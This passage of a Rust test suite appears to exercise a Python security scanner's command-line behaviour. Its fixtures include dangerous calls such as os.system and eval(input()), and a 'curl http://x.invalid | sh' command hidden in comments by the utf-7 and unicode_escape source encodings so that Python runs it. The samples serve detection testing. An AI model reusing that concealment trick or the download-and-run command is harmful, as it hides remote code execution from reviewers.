//! `pysbx scan`: exit codes, formats, and every kind of bad input.

use crate::common::{pysbx, repo, stderr, stdout, write};

const DANGEROUS: &str = "import os\n\nos.system('ls ' + name)\n";

#[test]
fn clean_file_exits_zero() {
    let dir = repo();
    write(dir.path(), "ok.py", "def f(x):\n    return x + 1\n");
    let out = pysbx(dir.path()).args(["scan", "ok.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stdout(&out).contains("1 file"), "{}", stdout(&out));
}

#[test]
fn finding_exits_one_with_diagnostic() {
    let dir = repo();
    write(dir.path(), "bad.py", DANGEROUS);
    let out = pysbx(dir.path()).args(["scan", "bad.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = stdout(&out);
    assert!(text.contains("PSB201"), "{text}");
    assert!(text.contains("bad.py:3:1"), "{text}");
    assert!(text.contains("os.system('ls ' + name)"), "{text}");
}

#[test]
fn fail_on_above_finding_severity_exits_zero() {
    let dir = repo();
    write(dir.path(), "bad.py", DANGEROUS);
    let out = pysbx(dir.path()).args(["scan", "--fail-on", "critical", "bad.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    // The finding is still reported.
    assert!(stdout(&out).contains("PSB201"));
}

#[test]
fn bad_fail_on_value_is_a_usage_error() {
    let dir = repo();
    let out = pysbx(dir.path()).args(["scan", "--fail-on", "huge", "."]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("huge"), "{}", stderr(&out));
}

#[test]
fn thread_counts_outside_one_to_256_are_usage_errors() {
    let dir = repo();
    for count in ["0", "257", "100000"] {
        let out = pysbx(dir.path()).args(["scan", "-j", count, "."]).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "-j {count}");
        assert!(stderr(&out).contains("1..=256"), "{}", stderr(&out));
    }
    let out = pysbx(dir.path()).args(["scan", "-j", "256", "."]).output().unwrap();
    assert_ne!(out.status.code(), Some(2), "{}", stderr(&out));
}

#[test]
fn a_report_file_keeps_the_mode_it_had_or_gets_the_umasks() {
    use std::os::unix::fs::PermissionsExt;
    let dir = repo();
    std::fs::write(dir.path().join("bad.py"), "eval(input())\n").unwrap();
    let kept = dir.path().join("kept.json");
    std::fs::write(&kept, "old").unwrap();
    std::fs::set_permissions(&kept, std::fs::Permissions::from_mode(0o640)).unwrap();
    let bin = env!("CARGO_BIN_EXE_pysbx");
    for (umask, out, want) in
        [("022", "kept.json", 0o640), ("022", "new.json", 0o644), ("027", "new2.json", 0o640)]
    {
        let status = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!(
                "umask {umask}; exec \"$0\" scan -q --no-config --format json -o {out} bad.py"
            ))
            .arg(bin)
            .current_dir(dir.path())
            .status()
            .unwrap();
        assert_eq!(status.code(), Some(1));
        let mode = std::fs::metadata(dir.path().join(out)).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, want, "{out} under umask {umask}: {mode:o}");
    }
}

/// A selector naming no rule is blamed on where it was given: the configuration file and key,
/// or the command-line option.
#[test]
fn unknown_selectors_name_where_they_were_given() {
    let dir = repo();
    std::fs::write(dir.path().join("t.py"), "eval(input())\n").unwrap();
    for (config, key, bad) in
        [("select: [PSB9999]\n", "select", "PSB9999"), ("ignore: [nope]\n", "ignore", "nope")]
    {
        std::fs::write(dir.path().join("pysbx.yaml"), config).unwrap();
        let out = pysbx(dir.path()).args(["scan", "t.py"]).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        let err = stderr(&out);
        assert!(err.contains(&format!("pysbx.yaml: {key}: no rule is named `{bad}`")), "{err}");
        assert!(!err.contains("--"), "{err}");
    }
    std::fs::write(dir.path().join("pysbx.yaml"), "select: [PSB102]\n").unwrap();
    let out = pysbx(dir.path()).args(["scan", "--ignore", "zzz", "t.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("--ignore: no rule is named `zzz`"), "{}", stderr(&out));
}

/// A bad exclude glob is blamed on the configuration file or on `--exclude`.
#[test]
fn bad_exclude_globs_name_where_they_were_given() {
    let dir = repo();
    std::fs::write(dir.path().join("t.py"), "x = 1\n").unwrap();
    std::fs::write(dir.path().join("pysbx.yaml"), "exclude: [\"a[b\"]\n").unwrap();
    let out = pysbx(dir.path()).args(["scan", "t.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("pysbx.yaml: exclude: invalid exclude pattern `a[b`"),
        "{}",
        stderr(&out)
    );
    std::fs::remove_file(dir.path().join("pysbx.yaml")).unwrap();
    let out = pysbx(dir.path()).args(["scan", "--exclude", "x[", "t.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("--exclude: invalid exclude pattern `x[`"), "{}", stderr(&out));
}

#[test]
fn per_file_ignores_naming_no_rule_are_a_configuration_error() {
    let dir = repo();
    std::fs::write(dir.path().join("t.py"), "eval(input())\n").unwrap();
    std::fs::write(dir.path().join("pysbx.yaml"), "per_file_ignores:\n  \"t.py\": [NOPE]\n")
        .unwrap();
    let out = pysbx(dir.path()).args(["scan", "t.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("pysbx.yaml: per_file_ignores `t.py`: no rule is named `NOPE`"), "{err}");
    // A rule that exists but is not selected is still a name.
    std::fs::write(dir.path().join("pysbx.yaml"), "per_file_ignores:\n  \"t.py\": [PSB102]\n")
        .unwrap();
    let out = pysbx(dir.path()).args(["scan", "--select", "PSB101", "t.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

#[test]
fn merge_names_the_input_of_the_wrong_format() {
    let dir = repo();
    std::fs::write(dir.path().join("t.py"), "eval(input())\n").unwrap();
    for (format, out) in [("json", "a.json"), ("sarif", "a.sarif")] {
        let run = pysbx(dir.path()).args(["scan", "--format", format, "-o", out, "t.py"]).output();
        assert_eq!(run.unwrap().status.code(), Some(1));
    }
    std::fs::write(dir.path().join("other.json"), "{\"results\": []}").unwrap();
    for (inputs, said) in [
        (["a.json", "a.sarif"], "a.sarif is a SARIF log but a.json is a pysbx JSON report"),
        (["a.json", "other.json"], "other.json: neither a pysbx JSON report"),
    ] {
        let out =
            pysbx(dir.path()).arg("merge").args(inputs).arg("-o").arg("m.json").output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        assert!(stderr(&out).contains(said), "{}", stderr(&out));
        assert!(!stderr(&out).contains("given again"), "{}", stderr(&out));
        assert!(!dir.path().join("m.json").exists());
    }
}

#[test]
fn missing_path_exits_two_naming_it() {
    let dir = repo();
    let out = pysbx(dir.path()).args(["scan", "nope.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let all = stdout(&out) + &stderr(&out);
    assert!(all.contains("nope.py"), "{all}");
    assert!(all.contains("no such file"), "{all}");
}

#[test]
fn empty_directory_exits_zero() {
    let dir = repo();
    std::fs::create_dir(dir.path().join("empty")).unwrap();
    let out = pysbx(dir.path()).args(["scan", "empty"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stdout(&out).contains("0 files"), "{}", stdout(&out));
}

#[test]
fn bad_rule_file_exits_two_with_position() {
    let dir = repo();
    write(
        dir.path(),
        "bad.yaml",
        "rules:\n  - id: X001\n    name: x\n    severity: huge\n    message: m\n    match: {call: a}\n",
    );
    write(dir.path(), "ok.py", "x = 1\n");
    let out = pysbx(dir.path()).args(["scan", "--rules", "bad.yaml", "ok.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("bad.yaml:4:"), "{}", stderr(&out));
}

#[test]
fn syntax_error_is_reported_with_position_and_scan_goes_on() {
    let dir = repo();
    write(dir.path(), "a_broken.py", "def f(:\n    pass\n");
    write(dir.path(), "b_bad.py", DANGEROUS);
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "."]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let errors = doc["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 1, "{doc}");
    assert_eq!(errors[0]["path"], "a_broken.py");
    assert_eq!(errors[0]["line"], 1);
    assert!(errors[0]["column"].as_u64().unwrap() >= 1);
    let findings = doc["findings"].as_array().unwrap();
    assert!(findings.iter().any(|f| f["path"] == "b_bad.py" && f["rule_id"] == "PSB201"), "{doc}");
}

#[test]
fn non_utf8_without_coding_line_is_a_decode_error() {
    let dir = repo();
    write(dir.path(), "latin.py", b"x = 'caf\xe9'\n".as_slice());
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "latin.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let err = &doc["errors"][0];
    assert_eq!(err["path"], "latin.py");
    assert_eq!(err["line"], 1);
    assert_eq!(err["kind"], "decode");
}

#[test]
fn coding_line_is_honoured() {
    let dir = repo();
    write(
        dir.path(),
        "latin.py",
        b"# -*- coding: latin-1 -*-\nimport os\nx = 'caf\xe9'\nos.system(x)\n".as_slice(),
    );
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "latin.py"]).output().unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["errors"].as_array().unwrap().len(), 0, "{doc}");
    assert_eq!(doc["findings"][0]["line"], 4, "{doc}");
}

#[test]
fn files_in_dos_and_mac_code_pages_are_read_as_python_reads_them() {
    let dir = repo();
    // Before, an "unknown encoding" error: the file was not scanned at all.
    write(
        dir.path(),
        "dos.py",
        b"# -*- coding: cp850 -*-\nimport os\nos.system('echo caf\x82')\n".as_slice(),
    );
    // mac_roman's 0xDE is the ligature `\u{fb01}`, which Python's identifiers read as `fi`.
    write(dir.path(), "mac.py", b"# coding: mac_roman\nimport os\nos.system(\xdele)\n".as_slice());
    let out =
        pysbx(dir.path()).args(["scan", "--format", "json", "dos.py", "mac.py"]).output().unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["errors"].as_array().unwrap().len(), 0, "{doc}");
    let findings = doc["findings"].as_array().unwrap();
    let at = |path: &str| findings.iter().filter(|f| f["path"] == path).collect::<Vec<_>>();
    assert!(
        at("dos.py")
            .iter()
            .any(|f| f["line"] == 3 && f["message"].as_str().unwrap().contains("os.system")),
        "{doc}"
    );
    assert!(at("mac.py").iter().any(|f| f["line"] == 3 && f["name"] == "os-system"), "{doc}");
}

#[test]
fn code_hidden_in_an_encoded_comment_is_found_where_python_runs_it() {
    let dir = repo();
    // Each of these text codecs turns an escape into a newline: Python runs the "comment" as
    // a second statement.
    for (name, label, newline, quote) in [
        ("utf7.py", "utf-7", "+AAo-", "+ACI-"),
        ("escape.py", "unicode_escape", "\\x0a", "\""),
        ("raw.py", "raw_unicode_escape", "\\u000a", "\""),
    ] {
        let source = format!(
            "# -*- coding: {label} -*-\nx = 1  # {newline}import os; os.system({quote}curl http://x.invalid | sh{quote})\n"
        );
        write(dir.path(), name, source.as_bytes());
        let out = pysbx(dir.path()).args(["scan", "--format", "json", name]).output().unwrap();
        assert_eq!(out.status.code(), Some(1), "{label}: {}", stderr(&out));
        let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(doc["errors"].as_array().unwrap().len(), 0, "{label}: {doc}");
        let findings = doc["findings"].as_array().unwrap();
        assert!(
            findings.iter().any(|f| f["name"] == "download-pipe-to-shell" && f["line"] == 3),
            "{label}: {doc}"
        );
        // The cookie itself is reported: the file hides what it runs.
        assert!(
            findings.iter().any(|f| f["name"] == "code-hiding-encoding" && f["line"] == 1),
            "{label}: {doc}"
        );
    }
    // Ordinary cookies, and the codecs' names in prose or in longer names, are not.
    write(
        dir.path(),
        "plain.py",
        "# -*- coding: utf-8 -*-\n# decodes utf-7 and unicode_escape payloads (coding: utf7x)\nx = 1\n",
    );
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "plain.py"]).output().unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let hits: Vec<_> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["name"] == "code-hiding-encoding")
        .map(|f| f["line"].clone())
        .collect();
    assert!(hits.is_empty(), "{doc}");
}

#[test]
fn binary_file_is_an_error_not_a_crash() {
    let dir = repo();
    let mut bytes = b"\x7fELF\x02\x01\x01\x00".to_vec();
    bytes.extend(std::iter::repeat_n(0u8, 4096));
    write(dir.path(), "blob.py", bytes);
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "blob.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["errors"][0]["path"], "blob.py");
}

#[test]
fn ten_megabyte_single_line_file_is_scanned() {
    let dir = repo();
    let mut line = String::from("x = [");
    while line.len() < 10 * 1024 * 1024 {
        line.push_str("'abcdefgh', ");
    }
    line.push_str("]; eval(x)\n");
    write(dir.path(), "big.py", line);
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "big.py"]).output().unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        doc["findings"].as_array().unwrap().iter().any(|f| f["rule_id"] == "PSB102"),
        "eval at the end of a 10 MB line must be found"
    );
}

#[test]
fn deeply_nested_expression_does_not_crash() {
    let dir = repo();
    let depth = 100_000;
    // Nested lists make a tree as deep as the text; a long `+` chain makes a deep left spine.
    write(dir.path(), "deep.py", format!("x = {}1{}\n", "[".repeat(depth), "]".repeat(depth)));
    write(dir.path(), "long.py", format!("x = 1{}\n", "+1".repeat(1_000_000)));
    // Prefix operators nest without brackets, each level about a kilobyte of the parser's
    // heap-grown stack: refused before parsing (a gigabyte for this file before).
    write(dir.path(), "unary.py", format!("x = {}1\n", "-".repeat(1_000_000)));
    write(dir.path(), "words.py", format!("x = {}1\n", "not ".repeat(300_000)));
    write(dir.path(), "other.py", DANGEROUS);
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "."]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let errors = doc["errors"].as_array().unwrap();
    for name in ["deep.py", "long.py", "unary.py", "words.py"] {
        let err = errors.iter().find(|e| e["path"] == name).unwrap_or_else(|| panic!("{doc}"));
        assert_eq!(err["kind"], "too-deep", "{doc}");
        assert_eq!(err["line"], 1);
    }

    assert!(doc["findings"].as_array().unwrap().iter().any(|f| f["path"] == "other.py"));
}

/// A chain of one-line functions, each calling the next, the last reached at import time:
/// each body is walked in its callers' frames, and keeping them all cost memory in the square
/// of the chain's length (10,000 functions, a 330 KB file, took about 700 MB; 100,000 took a
/// whole machine's memory). Scanned here in an address space of 1 GiB, where that ran out.
#[test]
fn a_long_chain_of_calls_is_scanned_in_bounded_memory() {
    let dir = repo();
    let n = 10_000;
    let mut text = String::from(
        "import os

def f0(x):
    return os.system(x)
",
    );
    for i in 1..n {
        text.push_str(&format!("def f{i}(x):\n    return f{}(x)\n", i - 1));
    }
    text.push_str(&format!("print(f{})\n", n - 1));
    write(dir.path(), "chain.py", text);
    let bin = assert_cmd::cargo::cargo_bin("pysbx");
    let out = std::process::Command::new("bash")
        .arg("-c")
        .arg("ulimit -v 1048576 && exec \"$0\" scan --format json chain.py")
        .arg(&bin)
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(doc["errors"].as_array().unwrap().is_empty(), "{doc}");
    let findings = doc["findings"].as_array().unwrap();
    assert!(findings.iter().any(|f| f["rule_id"] == "PSB201" && f["line"] == 4), "{doc}");
}

#[test]
fn stdin_is_scanned_under_its_name() {
    let dir = repo();
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "--stdin-filename", "snippet.py", "-"])
        .write_stdin(DANGEROUS)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["findings"][0]["path"], "snippet.py");
}

#[test]
fn output_file_is_written_and_stdout_is_empty() {
    let dir = repo();
    write(dir.path(), "bad.py", DANGEROUS);
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "-o", "report.json", "bad.py"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    let doc: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("report.json")).unwrap()).unwrap();
    assert_eq!(doc["findings"][0]["rule_id"], "PSB201");
    // No temporary file is left behind.
    let leftovers: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().starts_with(".pysbx-"))
        .collect();
    assert!(leftovers.is_empty());
}

#[test]
fn output_is_byte_identical_across_runs() {
    let dir = repo();
    for i in 0..40 {
        write(dir.path(), &format!("pkg{}/m{i}.py", i % 4), DANGEROUS);
    }
    // Without the cache, so every run analyses every file again.
    let run = || {
        pysbx(dir.path())
            .args(["scan", "--no-cache", "--format", "json", "-j", "4", "."])
            .output()
            .unwrap()
    };
    let first = run();
    let doc: serde_json::Value = serde_json::from_slice(&first.stdout).unwrap();
    assert_eq!(doc["findings"].as_array().unwrap().len(), 40);
    for _ in 0..3 {
        let again = run();
        let strip = |o: &std::process::Output| {
            let mut v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
            v["stats"]["duration_ms"] = serde_json::Value::Null;
            v
        };
        assert_eq!(strip(&first), strip(&again));
    }
}

#[test]
fn json_output_snapshot() {
    let dir = repo();
    write(dir.path(), "bad.py", DANGEROUS);
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "bad.py"]).output().unwrap();
    let mut doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    doc["stats"]["duration_ms"] = serde_json::json!("[duration]");
    doc["version"] = serde_json::json!("[version]");
    insta::assert_json_snapshot!("scan_json", doc);
}

#[test]
fn text_output_snapshot() {
    let dir = repo();
    write(dir.path(), "bad.py", DANGEROUS);
    let out = pysbx(dir.path()).args(["scan", "--color", "never", "bad.py"]).output().unwrap();
    insta::assert_snapshot!("scan_text", stdout(&out));
}

#[test]
fn suppression_comment_is_honoured_in_repository_mode_only() {
    let dir = repo();
    write(dir.path(), "s.py", "import os\nos.system(input())  # pysbx: ignore[PSB201]\n");
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "s.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    let out =
        pysbx(dir.path()).args(["scan", "--audit", "--format", "json", "s.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["findings"][0]["rule_id"], "PSB201");
}

/// Code in no git work tree is not the user's project: a package unpacked anywhere must not
/// switch its own findings off with comments, so audit mode is on unless `--no-audit`.
#[test]
fn suppression_comments_outside_any_repository_are_ignored_unless_no_audit() {
    let dir = tempfile::tempdir().unwrap();
    assert!(
        !dir.path().ancestors().any(|d| d.join(".git").exists()),
        "the temporary directory must be outside any repository"
    );
    write(dir.path(), "s.py", "import os\nos.system(input())  # pysbx: ignore[PSB201]\n");
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "s.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["findings"][0]["rule_id"], "PSB201");
    assert!(stderr(&out).contains("audit mode"), "{}", stderr(&out));
    let out = pysbx(dir.path())
        .args(["scan", "--no-audit", "--format", "json", "s.py"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["findings"].as_array().map(Vec::len), Some(0));
    // From outside any repository, a path inside one is that project's code.
    let project = repo();
    write(project.path(), "s.py", "import os\nos.system(input())  # pysbx: ignore[PSB201]\n");
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json"])
        .arg(project.path().join("s.py"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    let out = pysbx(dir.path()).args(["scan", "--audit", "--no-audit", "s.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
}

#[test]
fn unused_suppressions_are_reported_in_repository_mode() {
    let dir = repo();
    write(
        dir.path(),
        "s.py",
        "import os\nos.system(input())  # pysbx: ignore[PSB201]\ncount = 1  # nosec\n\
         total = 2  # pysbx: ignore[os-system]\n",
    );
    let scan = |extra: &[&str]| {
        let out = pysbx(dir.path())
            .args(["scan", "--format", "json"])
            .args(extra)
            .arg("s.py")
            .output()
            .unwrap();
        let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let found: Vec<(String, u64, String)> = doc["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                (
                    f["rule_id"].as_str().unwrap().to_owned(),
                    f["line"].as_u64().unwrap(),
                    f["severity"].as_str().unwrap().to_owned(),
                )
            })
            .collect();
        (out.status.code(), found)
    };
    // The used suppression on line 2 is not reported; the two unused ones are, at low
    // severity: they fail the run under the default failing severity (low), not above it.
    let (code, found) = scan(&[]);
    assert_eq!(code, Some(1), "{found:?}");
    assert_eq!(
        found,
        vec![
            ("PSB1206".to_owned(), 3, "low".to_owned()),
            ("PSB1206".to_owned(), 4, "low".to_owned())
        ]
    );
    let (code, _) = scan(&["--fail-on", "medium"]);
    assert_eq!(code, Some(0));
    // A rule left out of the run is not judged: its suppressions are not reported.
    let (_, found) = scan(&["--ignore", "PSB201"]);
    assert_eq!(found, vec![("PSB1206".to_owned(), 3, "low".to_owned())]);
    // Audit mode ignores suppression comments, so nothing about them is reported.
    let (_, found) = scan(&["--audit"]);
    assert!(found.iter().all(|(id, _, _)| id != "PSB1206"), "{found:?}");
    assert!(found.iter().any(|(id, line, _)| id == "PSB201" && *line == 2), "{found:?}");
}

#[test]
fn configuration_ignores_rules_and_bad_configuration_exits_two() {
    let dir = repo();
    write(dir.path(), "bad.py", DANGEROUS);
    write(dir.path(), "pysbx.yaml", "ignore: [PSB201]\n");
    let out = pysbx(dir.path()).args(["scan", "bad.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    write(dir.path(), "pysbx.yaml", "ignore: [PSB201]\nfail_onn: high\n");
    let out = pysbx(dir.path()).args(["scan", "bad.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("pysbx.yaml:2:"), "{}", stderr(&out));
}

#[test]
fn unknown_rule_in_ignore_is_a_usage_error() {
    let dir = repo();
    write(dir.path(), "ok.py", "x = 1\n");
    let out = pysbx(dir.path()).args(["scan", "--ignore", "PSB9999", "ok.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("PSB9999"));
}

/// Runs `pysbx ARGS` in `dir`; fails the test if it has not ended within 20 s (a read that
/// waits on a FIFO or never ends on a device).
fn run_bounded(dir: &std::path::Path, args: &[&str]) -> std::process::Output {
    pysbx(dir).args(args).timeout(std::time::Duration::from_secs(20)).output().unwrap_or_else(|e| {
        panic!("pysbx {args:?} did not end ({e}): it waited on a FIFO or read a device")
    })
}

#[test]
fn a_fifo_or_a_device_named_by_the_user_is_refused_not_read() {
    let dir = repo();
    write(dir.path(), "ok.py", "x = 1\n");
    for name in ["fifo.py", "fifo.whl", "fifo.yaml"] {
        let made = std::process::Command::new("mkfifo").arg(dir.path().join(name)).status();
        assert!(made.unwrap().success());
    }
    // A link to an endless device: read whole, it would fill memory.
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero.py")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero.yaml")).unwrap();
    let cases: &[(&[&str], &str, &str)] = &[
        (&["scan", "fifo.py", "ok.py"], "fifo.py", "a FIFO"),
        (&["scan", "zero.py"], "zero.py", "a character device"),
        (&["scan", "fifo.whl"], "fifo.whl", "a FIFO"),
        (&["scan", "--config", "zero.yaml", "ok.py"], "zero.yaml", "a character device"),
        (&["sanitize", "fifo.py", "-o", "out.py"], "fifo.py", "a FIFO"),
        (&["merge", "fifo.yaml"], "fifo.yaml", "a FIFO"),
        (&["policy", "check", "fifo.yaml"], "fifo.yaml", "a FIFO"),
        (&["rules", "validate", "zero.yaml"], "zero.yaml", "a character device"),
        (&["exec", "--no-config", "fifo.py"], "fifo.py", "a FIFO"),
        (&["exec", "--no-config", "zero.py"], "zero.py", "a character device"),
        (&["exec", "--policy", "zero.yaml", "ok.py"], "zero.yaml", "a character device"),
    ];
    for (args, path, what) in cases {
        let out = run_bounded(dir.path(), args);
        let all = stdout(&out) + &stderr(&out);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {all}");
        let expected = format!("not a regular file ({what}): not read");
        assert!(all.contains(path) && all.contains(&expected), "{args:?}: {all}");
        assert_eq!(all.matches(&expected).count(), 1, "{args:?}, said once: {all}");
    }
    assert!(!dir.path().join("out.py").exists(), "nothing written for an unread input");
}

#[test]
fn endless_standard_input_is_read_only_up_to_the_size_limit() {
    let dir = repo();
    for (args, code, said) in [
        (&["scan", "--max-file-size", "1", "-"][..], 1, "file is over the 1 MiB limit"),
        (&["sanitize", "-"][..], 2, "reading standard input: larger than the limit of 32 MiB"),
        (
            &["repl", "--no-config"][..],
            2,
            "reading standard input: larger than the limit of 32 MiB",
        ),
    ] {
        let out = std::process::Command::new(assert_cmd::cargo::cargo_bin("pysbx"))
            .args(args)
            .current_dir(dir.path())
            .env("NO_COLOR", "1")
            .stdin(std::fs::File::open("/dev/zero").unwrap())
            .output()
            .unwrap();
        let all = stdout(&out) + &stderr(&out);
        assert_eq!(out.status.code(), Some(code), "{args:?}: {all}");
        assert!(all.contains(said), "{args:?}: {all}");
    }
}

#[test]
fn a_report_to_a_fifo_or_through_a_link_is_written_into_it_not_over_it() {
    let dir = repo();
    write(dir.path(), "bad.py", DANGEROUS);
    // A FIFO (as `-o /dev/stdout` or a shell's `>(...)` are): written into, still a FIFO after.
    let fifo = dir.path().join("report.fifo");
    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read_to_string(fifo).unwrap())
    };
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "-o", "report.fifo", "bad.py"])
        .timeout(std::time::Duration::from_secs(30))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report = reader.join().unwrap();
    assert!(report.contains("PSB201"), "{report}");
    use std::os::unix::fs::FileTypeExt;
    assert!(std::fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
    // A link to a report: the report is replaced, the link stays.
    write(dir.path(), "reports/last.json", "{}");
    std::os::unix::fs::symlink("reports/last.json", dir.path().join("last.json")).unwrap();
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "-o", "last.json", "bad.py"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(std::fs::symlink_metadata(dir.path().join("last.json")).unwrap().is_symlink());
    let report = std::fs::read_to_string(dir.path().join("reports/last.json")).unwrap();
    assert!(report.contains("PSB201"), "{report}");
}

/// A scan interrupted while it writes its report leaves neither the report nor the temporary
/// file it was writing, and ends by the signal (a shell sees 130 for Ctrl-C). The run is
/// frozen (SIGSTOP) as soon as its temporary file appears, so that the signal arrives while
/// the file is being written, whatever the machine's speed.
#[test]
fn an_interrupted_scan_leaves_no_temporary_file() {
    use std::os::unix::process::ExitStatusExt;
    crate::exec_support::interrupts_as_from_a_terminal();
    let dir = tempfile::tempdir().expect("tempdir");
    let src = dir.path().join("src");
    // Many findings make a report of tens of megabytes, written for a while.
    let body = "eval(x)\n".repeat(5_000);
    for i in 0..60 {
        write(&src, &format!("m{i}.py"), &body);
    }
    let out_dir = dir.path().join("out");
    std::fs::create_dir(&out_dir).expect("mkdir");
    let report = out_dir.join("report.json");
    let bin = assert_cmd::cargo::cargo_bin("pysbx");
    let mut caught = false;
    for _attempt in 0..5 {
        let mut child = std::process::Command::new(&bin)
            .args(["scan", "--no-cache", "--quiet", "--format", "json", "-o"])
            .arg(&report)
            .arg(&src)
            .current_dir(dir.path())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("spawn pysbx");
        let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).expect("pid"));
        let temporary = |dir: &std::path::Path| {
            std::fs::read_dir(dir)
                .expect("read out dir")
                .flatten()
                .any(|e| e.file_name().to_string_lossy().starts_with(".pysbx-"))
        };
        let mut seen = false;
        while child.try_wait().expect("wait").is_none() {
            if temporary(&out_dir) {
                let _ = nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGSTOP);
                seen = temporary(&out_dir);
                if seen {
                    let _ = nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGINT);
                }
                let _ = nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGCONT);
                break;
            }
        }
        let status = child.wait().expect("wait");
        if !seen {
            // Finished (or the file was renamed) before it was seen: try again afresh.
            let _ = std::fs::remove_file(&report);
            continue;
        }
        caught = true;
